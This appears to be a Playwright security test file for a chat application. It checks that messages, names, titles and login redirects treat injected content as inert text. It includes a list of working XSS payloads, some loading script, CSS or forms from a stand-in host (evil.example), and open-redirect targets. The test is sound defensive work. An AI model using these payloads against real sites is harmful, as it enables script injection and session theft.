import type { UserView } from '@parley/contracts';
import type { Locator, Page } from 'playwright-core';
import { act, count, lineOf, messages, sees, send } from '../support/browser/chat.js';
import { inBrowser } from '../support/browser/in-browser.js';
import { eventually } from '../support/eventually.js';
import { people, type Person } from '../support/people.js';
import { startApp, type RunningApp } from '../support/start-app.js';
import { write } from '../support/writing.js';

/** Each would run in a page that takes a text for something else than a text. `stage` reports dialogs and violations. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">press</a>',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>Log in</button></form>',
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt&colon;alert(1))',
  '[press](java\u0001script:alert(1))',
  '[press](data:text/html,<script>alert(1)</script>)',
  '[press](vbscript:alert(1))',
  '![x](x"onerror="alert(1))',
  '![x](https://evil.example/pixel.png)',
  '[x](https://example.com "onmouseover=alert(1) x=")',
  '<javascript:alert(1)>',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/?q='><img src=x onerror=alert(1)>",
  '`<img src=x onerror=alert(1)>`',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '@<img/src=x/onerror=alert(1)>',
  '\u202e<script>alert(1)</script>',
];

/** Those that may be a name or a title: one line, and no characters that change the direction. */
const NAMES = ATTACKS.filter((text) => text.length <= 80 && !/[\p{Cc}\u202e]/u.test(text));

inBrowser('texts that would like to be programs', (stage) => {
  let app: RunningApp;
  let ada: Person, ben: Person;
  beforeAll(async () => {
    app = await startApp();
  });
  beforeEach(async () => {
    ({ ada, ben } = await people(app, 'ada', 'ben'));
  });
  afterAll(() => app.close());

  async function group(title: string): Promise<string> {
    const answer = await ada.rest.post<{ id: string }>('/conversations', { kind: 'group', title, memberIds: [ben.id] });
    expect(answer.status).toBe(201);
    return answer.body.id;
  }

  /** Elements and links that only an attack can have brought. */
  async function isClean(page: Page): Promise<void> {
    const found = await page.evaluate<string[]>(`(() => {
      const foreign = document.querySelectorAll(
        'iframe, object, embed, base, form[action], script:not([src^="/"]), style, math, details, [onerror], [onload], [onclick]'
      );
      const links = [...document.querySelectorAll('[href], [src]')].filter((element) => {
        const url = element.getAttribute('href') ?? element.getAttribute('src');
        if (element.tagName === 'IMG' || element.tagName === 'SCRIPT' || element.tagName === 'LINK') {
          return new URL(url, location.href).origin !== location.origin && !url.startsWith('data:');
        }
        return !/^(https?:|mailto:|[/#])/.test(url);
      });
      return [...foreign, ...links].map((element) => element.outerHTML.slice(0, 200));
    })()`);
    expect(found).toEqual([]);
  }

  /** Long lists draw only what is in sight: all of it is brought there, piece by piece. */
  async function isCleanThroughout(page: Page, list: Locator): Promise<void> {
    for (let isAtEnd = false; !isAtEnd;) {
      await isClean(page);
      isAtEnd = await list.evaluate((element) => {
        const pane = element as unknown as { scrollTop: number; clientHeight: number };
        const before = pane.scrollTop;
        pane.scrollTop += pane.clientHeight / 2;
        return pane.scrollTop === before;
      });
    }
  }

  it('would be noticed if they ran, and would not run', async () => {
    const page = await stage.as(ada, app.url);
    await page.evaluate(
      `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)"><div style="color: red">')`,
    );
    const noticed: string[] = [];
    await eventually(() => {
      noticed.push(...stage.takeTroubles());
      const words = noticed.join();
      expect(words).toContain('script-src-attr');
      expect(words).toContain('style-src-attr');
      expect(words).not.toContain('The page asked');
    });
  });

  it('stay texts in messages, quotes, previews, edits and what is announced', async () => {
    const id = await group('Tea');
    const page = await stage.as(ben, app.url);
    await page.goto(`${app.url}/c/${id}`);
    await page.getByRole('heading', { level: 1, name: 'Tea' }).waitFor();
    // What comes while one looks is also announced, and shown in the list.
    for (const [index, attack] of ATTACKS.entries()) await write(ada, id, `${attack}\n(${index})`);
    await sees(page, `(${ATTACKS.length - 1})`);
    await isClean(page);

    await act(page, messages(page, `(${ATTACKS.length - 1})`), 'Reply');
    await page.getByText('Replying to').waitFor();
    await send(page, '<img src=x onerror=alert(1)> answered');
    await sees(page, 'answered');
    await isClean(page);

    await page.goto(`${app.url}/c/${id}/m/2`);
    await sees(page, '(0)');
    await isCleanThroughout(page, page.getByRole('log', { name: 'Messages' }));
    const links = await page.getByRole('log', { name: 'Messages' }).getByRole('link').all();
    for (const link of links) {
      const target = await link.getAttribute('target');
      if (target === '_blank') expect(await link.getAttribute('rel')).toContain('noopener');
    }
  });

  it('stay texts in names and titles, wherever these are shown', async () => {
    const attackers = await people(app, ...NAMES.map((_, index) => `attacker${index}`));
    const everybody = Object.values<Person>(attackers);
    for (const [index, attacker] of everybody.entries()) {
      const answer = await attacker.rest.patch<UserView>('/users/me', { displayName: NAMES[index] });
      expect({ attack: NAMES[index], status: answer.status }).toEqual({ attack: NAMES[index], status: 200 });
    }
    const memberIds = everybody.map(({ id }) => id);
    const made = await ada.rest.post<{ id: string }>('/conversations', { kind: 'group', title: NAMES[2], memberIds });
    const { id } = made.body;
    for (const title of NAMES.slice(0, 12)) await group(title);
    for (const attacker of everybody) await write(attacker, id, 'Hello from me');

    const page = await stage.as(ada, app.url);
    await lineOf(page, '<script>alert').first().waitFor();
    await isClean(page);
    await page.goto(`${app.url}/c/${id}`);
    await page.getByRole('heading', { level: 1, name: NAMES[2] }).waitFor();
    await sees(page, 'Hello from me');
    await page.getByRole('button', { name: 'Details' }).click();
    const members = page.getByRole('list', { name: 'Members' });
    await members.getByText('onerror=alert(1)').first().waitFor();
    await isCleanThroughout(page, members);
    await page.keyboard.press('Escape');

    await page.getByRole('button', { name: 'New conversation' }).click();
    const dialog = page.getByRole('dialog', { name: 'New conversation' });
    await dialog.getByRole('textbox', { name: 'Search people' }).fill('<');
    await dialog.getByRole('list', { name: 'People' }).getByRole('button').first().waitFor();
    await isClean(page);
    await page.keyboard.press('Escape');
    await count(page.getByRole('dialog'), 0);

    await ada.rest.patch('/users/me', { displayName: '<img src=x onerror=alert(1)>' });
    await page.goto(`${app.url}/settings/profile`);
    const name = page.getByRole('textbox', { name: 'Display name' });
    await eventually(async () => expect(await name.inputValue()).toBe('<img src=x onerror=alert(1)>'));
    await isClean(page);
  });

  it('lead nowhere from the address, not even after logging in', async () => {
    for (const next of ['//evil.example', '/\\evil.example', 'https://evil.example', 'javascript:alert(1)']) {
      const page = await stage.visit(`${app.url}/login?next=${encodeURIComponent(next)}`);
      await page.getByRole('textbox', { name: 'Username' }).fill(ada.username);
      await page.getByLabel('Password', { exact: true }).fill(ada.password);
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.getByRole('button', { name: 'Account' }).waitFor();
      expect(new URL(page.url()).origin).toBe(app.url);
    }
    const page = await stage.as(ada, app.url);
    for (const path of [
      '/c/<script>alert(1)<%2Fscript>',
      '/c/javascript:alert(1)',
      '/%3Cimg%20src=x%20onerror=alert(1)%3E',
    ]) {
      await page.goto(`${app.url}${path}`);
      await page.getByRole('button', { name: 'Account' }).waitFor();
      await isClean(page);
    }
  });
});
